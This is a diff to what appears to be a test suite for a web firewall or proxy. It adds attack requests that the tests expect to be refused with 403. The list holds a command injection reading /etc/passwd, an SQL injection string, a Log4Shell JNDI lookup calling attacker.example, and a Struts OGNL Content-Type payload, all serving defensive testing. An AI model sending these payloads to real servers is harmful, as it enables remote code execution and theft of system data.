@@ -78,6 +78,8 @@ target = "http://127.0.0.1:${upstreamPort}"`);
     ['command injection in the query', '/ping?host=127.0.0.1%3Bcat%20/etc/passwd', {}],
     ['SQL injection in the User-Agent', '/', { 'User-Agent': "' OR 1=1--" }],
     ['a custom block rule', '/wp-login.php', {}],
+    ['a Log4Shell lookup in any header', '/', { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' }],
+    ['an OGNL expression in Content-Type (Struts, CVE-2017-5638)', '/upload', { 'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" }],
   ];
   for (const [what, urlPath, headers] of attacks) {
     it(`refuses ${what} with 403 before the upstream sees it`, async () => {
